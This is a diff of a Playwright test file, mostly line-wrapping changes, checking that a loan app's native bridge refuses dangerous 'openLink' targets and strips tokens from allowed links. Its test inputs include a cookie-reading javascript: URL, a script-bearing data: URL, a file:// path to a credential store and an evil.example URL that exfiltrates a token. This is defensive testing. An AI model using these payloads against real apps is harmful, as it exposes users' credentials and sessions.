@@ -12,7 +12,8 @@ import { toast } from './repaySupport.ts';
 const TOKEN = 'bridge-token-0123456789abcdef';
 const SESSION = 'bridge-session-42';
 const HOME_BRIDGE = '{do:`bridge`,action:`goHome`}';
-const AROUND_THE_RULE = '{do:`bridge`,action:`openLink`,data:{url:{$template:[[`query.next`]]},token:{$template:[[`launch.token`]]},session:{$template:[[`launch.session`]]},note:{$template:[`t=`,[`launch.token`]]}}}';
+const AROUND_THE_RULE =
+  '{do:`bridge`,action:`openLink`,data:{url:{$template:[[`query.next`]]},token:{$template:[[`launch.token`]]},session:{$template:[[`launch.session`]]},note:{$template:[`t=`,[`launch.token`]]}}}';
 
 /** Serves the built error page with its Home button rewritten to the bridge action above. */
 async function serveRewrittenErrorPage(page: Page): Promise<void> {
@@ -35,15 +36,24 @@ test.describe('a page-driven bridge openLink inside a native host', () => {
     await serveRewrittenErrorPage(page);
   });
 
-  for (const next of ['javascript:alert(document.cookie)', 'data:text/html,<script>alert(1)</script>', 'file:///data/data/app/shared_prefs/auth.xml', `https://evil.example/steal?t=${TOKEN}`]) {
-    test(`never hands the host ${next.slice(0, next.indexOf(':') + 1)} ${next.includes(TOKEN) ? 'with the token' : 'links'}: the borrower is told the link cannot be opened`, async ({ page }) => {
+  for (const next of [
+    'javascript:alert(document.cookie)',
+    'data:text/html,<script>alert(1)</script>',
+    'file:///data/data/app/shared_prefs/auth.xml',
+    `https://evil.example/steal?t=${TOKEN}`,
+  ]) {
+    test(`never hands the host ${next.slice(0, next.indexOf(':') + 1)} ${next.includes(TOKEN) ? 'with the token' : 'links'}: the borrower is told the link cannot be opened`, async ({
+      page,
+    }) => {
       await pressHome(page, next);
       await expect(toast(page, WORDS.in.link)).toBeVisible();
       expect(await hostMessages(page)).toEqual([]);
     });
   }
 
-  test('a link the rule lets go reaches the host without the token, the session or anything holding them', async ({ page }) => {
+  test('a link the rule lets go reaches the host without the token, the session or anything holding them', async ({
+    page,
+  }) => {
     await pressHome(page, 'https://lender.elsewhere.example/offer?ref=home');
     await expect.poll(() => hostMessages(page)).toHaveLength(1);
     const [message] = (await hostMessages(page)) as { action: string; data: Record<string, unknown> }[];
